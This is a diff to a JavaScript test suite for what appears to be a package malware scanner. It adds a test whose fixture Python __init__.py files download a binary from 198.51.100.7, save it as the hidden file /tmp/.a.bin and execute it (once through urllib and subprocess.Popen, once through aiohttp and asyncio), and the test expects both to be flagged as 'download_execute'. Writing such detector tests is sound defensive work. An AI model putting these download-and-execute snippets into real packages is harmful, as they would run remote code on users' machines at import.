@@ -76,6 +76,36 @@ subprocess.Popen(path, creationflags=0x08000000)
   );
 });
 
+test('chunks read in a loop (iter with a lambda, aiohttp iter_chunked) written and started', async () => {
+  await blocked(
+    {
+      'pkgx/__init__.py': py`import urllib.request, os, subprocess
+resp = urllib.request.urlopen('http://198.51.100.7/a')
+with open('/tmp/.a.bin', 'wb') as f:
+    for chunk in iter(lambda: resp.read(4096), b''):
+        f.write(chunk)
+subprocess.Popen('/tmp/.a.bin')
+`,
+    },
+    'download_execute',
+  );
+  await blocked(
+    {
+      'pkgx/__init__.py': py`import aiohttp, asyncio
+async def go():
+    async with aiohttp.ClientSession() as s:
+        async with s.get('http://198.51.100.7/a') as resp:
+            with open('/tmp/.a.bin', 'wb') as f:
+                async for chunk in resp.content.iter_chunked(1024):
+                    f.write(chunk)
+    await asyncio.create_subprocess_exec('/tmp/.a.bin')
+asyncio.run(go())
+`,
+    },
+    'download_execute',
+  );
+});
+
 test('fetched code written to a NamedTemporaryFile and run through an aliased system', async () => {
   await blocked(
     {
